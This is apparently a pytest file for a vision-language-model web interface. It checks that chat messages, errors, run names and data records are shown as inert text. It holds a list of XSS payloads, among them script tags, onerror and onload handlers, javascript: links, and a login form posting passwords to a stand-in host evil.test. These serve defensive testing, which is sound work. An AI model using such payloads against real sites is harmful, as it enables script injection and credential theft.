"""Texts of strangers in a real browser: questions, answers, errors and names are text, and nothing of them is alive."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.web import test_page
from tests.web.test_page import Served, choose, fill, send, wait_until
from vlm import VisionLanguageModel
from vlm.web.models import ModelHolder

pytestmark = [*test_page.pytestmark, pytest.mark.attack]  # `test_page` has the short form
served, browser, visit = test_page.served, test_page.browser, test_page.visit

HOSTILE = [
    '<form action="http://evil.test/login"><input name="password"><button>Sign in</button></form>',
    '<a href="http://evil.test">click</a>',
    "[x](javascript:alert(1)) [y](http://evil.test) <http://evil.test> http://evil.test/plain",
    '![](http://evil.test/pixel.png) <img src=x onerror="window.hacked=1">',
    "<style>body{display:none}</style><script>window.hacked=1</script>",
    '<svg onload="window.hacked=1"><a href="http://evil.test"><text>x</text></a></svg>',
    r"$$\href{javascript:alert(1)}{x}$$ \(\url{http://evil.test}\) $$\includegraphics{http://evil.test/a.png}$$",
    '<iframe src="http://evil.test"></iframe><object data="http://evil.test"></object><embed src="http://evil.test">',
    '<details open ontoggle="window.hacked=1"><summary>x</summary></details><video src="http://evil.test/v"></video>',
    "# heading\n**bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```mermaid\ngraph TD; A-->B\n```",
    "&lt;b&gt; &amp; <b onclick=alert(1)>bold</b>",
]
ALIVE = "form, input, a, script, style, iframe, object, embed, details, video, svg a, .katex, b, strong, h1, table, img"
"""What no text may become."""


def find_alive(page: Any, place: str) -> list[str]:
    """The elements of a place of the page that a text has made."""
    script = f"all => all.flatMap(one => [...one.querySelectorAll('{ALIVE}')]).map(one => one.outerHTML)"
    return page.locator(place).evaluate_all(script)


@pytest.fixture
def echo(monkeypatch: pytest.MonkeyPatch) -> None:
    """A model that says what it was asked, and then everything that is hostile."""

    def say(self: Any, *given: Any) -> Iterator[str]:
        yield from (f"{text}\n" for text in HOSTILE)

    monkeypatch.setattr(VisionLanguageModel, "stream_batch", say)


def test_questions_and_answers_are_text(visit: Callable[..., Any], echo: None):
    page = visit("Chat")
    question = HOSTILE[0] + HOSTILE[3]  # the tiny model reads no more
    send(page, question)
    page.wait_for_selector("#chat-shown .bot .message-content")
    wait_until(lambda: "bold</b>" in page.locator("#chat-shown .bot .message-content").last.inner_text(), page)
    for who, texts in {"user": [question], "bot": HOSTILE}.items():
        place = f"#chat-shown .{who} .message-content"
        assert find_alive(page, place) == []
        shown = page.locator(place).last.inner_text()
        assert [text for text in texts if " ".join(text.split()) not in " ".join(shown.split())] == []
    assert page.evaluate("window.hacked") is None
    assert page.locator("#chat-question").is_visible()


@pytest.mark.parametrize("text", ["".join(HOSTILE[:3]), "".join(HOSTILE[3:6]), "".join(HOSTILE[6:9]) + HOSTILE[10]])
def test_an_error_is_text(visit: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, text: str):
    def refuse(self: Any, kind: Any, checkpoint: str) -> None:
        raise ValueError(f"{text} \x1b[31m")

    monkeypatch.setattr(ModelHolder, "load", refuse)
    page = visit("Chat")
    send(page, "what?")
    page.locator(".toast-body").wait_for()
    assert find_alive(page, ".toast-body .toast-text") == []
    shown = page.locator(".toast-body").inner_text()
    assert " ".join(text.split()) in " ".join(shown.split())
    assert r"\x1b[31m" in shown
    assert page.evaluate("window.hacked") is None
    page.get_by_role("tab", name="Predict", exact=True).click()
    fill(page, "predict-prompt", "what?")
    page.locator("#predict-go").click()
    page.locator("#predict-result .vlm-problem").wait_for()
    assert find_alive(page, "#predict-result") == []
    assert " ".join(text.split()) in " ".join(page.locator("#predict-result").inner_text().split())


def test_names_of_runs_and_their_files_are_text(served: Served, visit: Callable[..., Any], tmp_path: Path):
    name = "<img src=x onerror=window.hacked=1>"
    folder = served.outputs / name
    test_page.write_run(folder, {"step": 1, "loss": 1.0, "epoch": 1.0})
    (folder / "command.txt").write_text(f"vlm -cn run trainer.hub_token=hf_{'a' * 30} '{HOSTILE[0]}'\n")
    (folder / "config.yaml").write_text("trainer: {max_steps: -1, num_train_epochs: 2, hub_token: our-own-token-1}\n")
    (folder / "samples.md").write_text(
        f"## Step 7\n\n- **question**: {HOSTILE[0]}\n- **answer**: {HOSTILE[1]}{HOSTILE[3]}\n"
    )
    page = visit("Train")
    page.get_by_role("tab", name="Runs").click()
    page.locator("#runs-again").click()
    page.locator(f"#runs-table [data-run='{name}'] button").click()
    page.locator("#run-status h3").wait_for()
    page.get_by_role("tab", name="Samples").click()
    for place in ("#runs-table tbody", "#run-status", "#run-samples"):
        assert find_alive(page, place) == []
    page.get_by_role("tab", name="Configuration").click()
    page.get_by_text("hub_token").first.wait_for()
    shown = page.locator("#run-config").inner_text()
    assert "***" in shown
    assert "our-own-token-1" not in shown
    assert "aaaa" not in shown
    assert page.evaluate("window.hacked") is None


def test_records_are_text(served: Served, world: Path, visit: Callable[..., Any], tmp_path: Path):
    turns = [{"from": "human", "value": "".join(HOSTILE)}, {"from": "gpt", "value": HOSTILE[0]}]
    (tmp_path / "records.json").write_text(json.dumps([{"id": HOSTILE[3], "conversations": turns}]))
    page = visit("Data")
    fill(page, "data-path", str(tmp_path / "records.json"))
    choose(page, "data-checkpoint", str(served.chat))
    page.locator("#data-open").click()
    page.locator("#data-shown h2").first.wait_for()
    assert find_alive(page, "#data-shown") == []
    assert page.evaluate("window.hacked") is None
